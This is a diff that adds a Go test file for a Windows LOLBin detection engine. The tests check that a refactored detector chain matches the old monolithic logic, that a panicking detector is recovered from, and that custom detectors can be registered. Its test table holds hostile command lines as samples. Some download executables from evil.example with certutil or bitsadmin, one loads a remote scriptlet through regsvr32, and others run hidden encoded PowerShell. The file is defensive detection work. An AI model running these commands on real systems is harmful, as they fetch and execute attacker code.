@@ -0,0 +1,147 @@
+package main
+
+import (
+	"encoding/hex"
+	"fmt"
+	"reflect"
+	"slices"
+	"testing"
+)
+
+// withDetectors replaces the detection chain for the rest of the test
+func withDetectors(t *testing.T, chain []Detector) {
+	t.Helper()
+	saved := detectors
+	detectors = chain
+	t.Cleanup(func() { detectors = saved })
+}
+
+// monolithicDetector is checkForLOLBin's detection as it was before the
+// chain, when every check was called in turn from one function
+var monolithicDetector = detectorFunc{"monolithic", func(ctx *DetectionContext, event *ProcessEvent) {
+	if matches := ctx.Rules.matching(ctx.ExecName); len(matches) > 0 {
+		applyLOLBinRules(event, ctx.Rules, ctx.ExecName, matches)
+
+		if event.HighEntropy {
+			addFinding(event, SeverityMedium, ConfidenceLow, fmt.Sprintf("High-entropy argument in %s command line (%.2f bits/char)",
+				ctx.ExecName, event.Entropy))
+		}
+		checkCommandLineHeuristics(event, ctx.Rules.LOLBins[event.Rule])
+		checkSignature(event, ctx.Rules.LOLBins[event.Rule])
+		checkUNCPaths(event)
+		checkBlocklist(event)
+	}
+	if event.TerminatedBy == "" {
+		checkCompositeRules(event, ctx.ExecName)
+	}
+}}
+
+// monolithicStages are the chain members the monolithic function was split
+// into
+var monolithicStages = []string{"lolbin_rules", "high_entropy", "cmdline_heuristics", "signature", "unc_paths", "blocklist", "composite_rules"}
+
+func TestDetectorChainEquivalence(t *testing.T) {
+	var chain []Detector
+	for _, d := range detectors {
+		if slices.Contains(monolithicStages, d.Name()) {
+			chain = append(chain, d)
+		}
+	}
+	if len(chain) != len(monolithicStages) {
+		t.Fatalf("found %d of the %d chain members", len(chain), len(monolithicStages))
+	}
+
+	tests := []struct {
+		executable string
+		cmdLine    string
+	}{
+		{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://evil.example/a.exe C:\Users\Public\a.exe`},
+		{`C:\Windows\System32\certutil.exe`, `certutil.exe -hashfile C:\Windows\notepad.exe SHA256`},
+		{`C:\Windows\System32\regsvr32.exe`, `regsvr32.exe /s /u /i:http://evil.example/x.sct scrobj.dll`},
+		{`C:\Windows\System32\regsvr32.exe`, `regsvr32.exe /s C:\Program Files\Vendor\plugin.dll`},
+		{`C:\Windows\System32\regsvr32.exe`, `regsvr32.exe /s \\evil.example\share\x.dll`},
+		{`C:\Windows\System32\mshta.exe`, `mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")`},
+		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=`},
+		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoProfile -File C:\ProgramData\Scripts\inventory.ps1`},
+		{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Users\Public\x.dll,Run ` + hex.EncodeToString(randomBytes(48))},
+		{`C:\Windows\System32\bitsadmin.exe`, `bitsadmin.exe /transfer job /download /priority high http://evil.example/a.exe C:\Temp\a.exe`},
+		{`C:\Windows\System32\cmd.exe`, `cmd.exe /c dir C:\Users`},
+		{`C:\Windows\System32\notepad.exe`, `notepad.exe C:\Users\alice\notes.txt`},
+		{`C:\Users\alice\Downloads\tool.exe`, `tool.exe --install`},
+	}
+	for _, tt := range tests {
+		t.Run(imageName(tt.executable), func(t *testing.T) {
+			withDetectors(t, []Detector{monolithicDetector})
+			want := evaluate(tt.executable, tt.cmdLine)
+			detectors = chain
+			got := evaluate(tt.executable, tt.cmdLine)
+
+			if got.Rule != want.Rule || got.Severity != want.Severity || got.Suspicious != want.Suspicious {
+				t.Errorf("%s: chain gives rule %q, severity %v, suspicious %v; monolithic gives %q, %v, %v",
+					tt.cmdLine, got.Rule, got.Severity, got.Suspicious, want.Rule, want.Severity, want.Suspicious)
+			}
+			if !reflect.DeepEqual(got.Indicators, want.Indicators) {
+				t.Errorf("%s: chain indicators %+v, monolithic %+v", tt.cmdLine, got.Indicators, want.Indicators)
+			}
+			if got.Reason != want.Reason {
+				t.Errorf("%s: chain reason %q, monolithic %q", tt.cmdLine, got.Reason, want.Reason)
+			}
+		})
+	}
+}
+
+func TestRunDetectorRecoversPanic(t *testing.T) {
+	withDetectors(t, []Detector{
+		detectorFunc{"test_marker", func(ctx *DetectionContext, event *ProcessEvent) {
+			event.Indicators = append(event.Indicators, Indicator{Type: "marker", Value: "before"})
+		}},
+		detectorFunc{"test_panic", func(ctx *DetectionContext, event *ProcessEvent) {
+			addFinding(event, SeverityCritical, ConfidenceHigh, "partial")
+			panic("broken detector")
+		}},
+		detectorFunc{"test_after", func(ctx *DetectionContext, event *ProcessEvent) {
+			event.Indicators = append(event.Indicators, Indicator{Type: "marker", Value: "after"})
+		}},
+	})
+	panics := detectorCountersFor("test_panic").panics.Load()
+
+	event := evaluate(`C:\Windows\System32\notepad.exe`, `notepad.exe`)
+	if event.Suspicious || event.Reason != "" {
+		t.Errorf("the panicking detector's changes were kept: %s", event.Reason)
+	}
+	if !hasIndicator(event, "marker", "before") || !hasIndicator(event, "marker", "after") {
+		t.Errorf("indicators = %+v, want the detectors around the panic to have run", event.Indicators)
+	}
+	if got := detectorCountersFor("test_panic").panics.Load(); got != panics+1 {
+		t.Errorf("%d panics recorded, want %d", got, panics+1)
+	}
+}
+
+func TestRegisterDetector(t *testing.T) {
+	withDetectors(t, append([]Detector{}, detectors...))
+	RegisterDetector(detectorFunc{"svc_legacy", func(ctx *DetectionContext, event *ProcessEvent) {
+		if event.User != `CORP\svc_legacy` {
+			return
+		}
+		addFinding(event, SeverityHigh, ConfidenceMedium, "run by svc_legacy")
+		event.Indicators = append(event.Indicators, Indicator{Type: "account", Value: event.User})
+	}})
+
+	tests := []struct {
+		user    string
+		flagged bool
+	}{
+		{`CORP\svc_legacy`, true},
+		{`CORP\alice`, false},
+	}
+	for _, tt := range tests {
+		event := checkForLOLBin(ProcessEvent{ProcessID: 4242, User: tt.user, CommandLine: "notepad.exe",
+			ExecutablePath: `C:\Windows\System32\notepad.exe`}, false)
+		if flagged := hasIndicator(event, "account", tt.user); flagged != tt.flagged || event.Suspicious != tt.flagged {
+			t.Errorf("%s: indicator %v, suspicious %v, want %v", tt.user, flagged, event.Suspicious, tt.flagged)
+		}
+	}
+	if _, ok := allDetectorStats()["svc_legacy"]; !ok {
+		t.Error("the registered detector has no statistics")
+	}
+}